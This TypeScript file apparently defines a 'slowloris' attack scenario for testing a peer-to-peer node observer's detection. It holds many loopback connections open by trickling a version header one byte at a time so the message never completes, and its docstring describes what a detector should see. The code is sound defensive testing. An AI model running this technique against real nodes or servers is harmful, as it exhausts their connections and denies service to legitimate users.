/**
 * `slowloris`: connections that never finish a message. Each sends the first
 * half of a version header (magic and most of the command), then trickles the
 * rest of the header and the payload one byte at a time, all but the last
 * byte, so bytes keep arriving and the message never completes before the
 * observer's handshake timeout (Core: 60 s; at 1 byte/s the ~125-byte frame
 * would take two minutes). When the
 * observer drops one, a new one replaces it from the next address.
 *
 * Parameters: --peers (default 20) connections held at once, from
 * 127.35.0.1, .2, ... (one /16); --rate (default 1) bytes per second per
 * connection after the half header.
 *
 * A detector sees: many inbound connections with bytes in but no message, each
 * ending in a `handshake-timeout` violation ("no version") and a
 * connection.closed with reason `handshake-timeout`.
 */
import { encodeFrame } from '../../protocol/framing.js';
import { sleep, sourceIn16, versionMessage } from '../kit.js';
import { encodePayload } from '../../protocol/messages/index.js';
import { bump, keepRunning, type Scenario } from '../scenario.js';

/** Bytes sent at once: magic and 8 of the 12 command bytes. */
export const SLOWLORIS_FIRST_BYTES = 12;

export const slowloris: Scenario = {
  name: 'slowloris',
  summary: 'connections that send half a header and trickle the rest a byte at a time, never completing a message',
  detectorSees:
    'inbound connections with bytes but no complete message, each ending in a handshake-timeout violation and ' +
    'connection.closed reason handshake-timeout',
  sources: 'one /16: 127.35.0.1, 127.35.0.2, ... (a new address per connection)',
  defaults: { peers: 20, rate: 1 },
  rateUnit: 'bytes per second per connection after the half header',
  async run(ctx) {
    await keepRunning(
      ctx.peers,
      ctx.signal,
      async (i) => {
        const peer = await ctx.open(sourceIn16('127.35', i));
        try {
          const frame = encodeFrame(ctx.network, 'version', encodePayload(versionMessage()));
          peer.sendRaw(frame.subarray(0, SLOWLORIS_FIRST_BYTES), 'half-header');
          bump(ctx.stats, 'halfHeaders');
          // Trickle the rest of the header and the payload, but never the last byte: the frame must never complete.
          for (let at = SLOWLORIS_FIRST_BYTES; at < frame.length - 1 && peer.isOpen && !ctx.signal.aborted; at++) {
            await Promise.race([sleep(1000 / ctx.rate, ctx.signal), peer.closed]);
            if (!peer.isOpen || ctx.signal.aborted) break;
            peer.sendRaw(frame.subarray(at, at + 1), 'trickle');
            bump(ctx.stats, 'trickledBytes');
          }
          await Promise.race([peer.closed, sleep(2 ** 31 - 1, ctx.signal)]);
        } finally {
          await peer.close();
          ctx.account(peer);
        }
      },
      100,
      20,
    );
  },
};
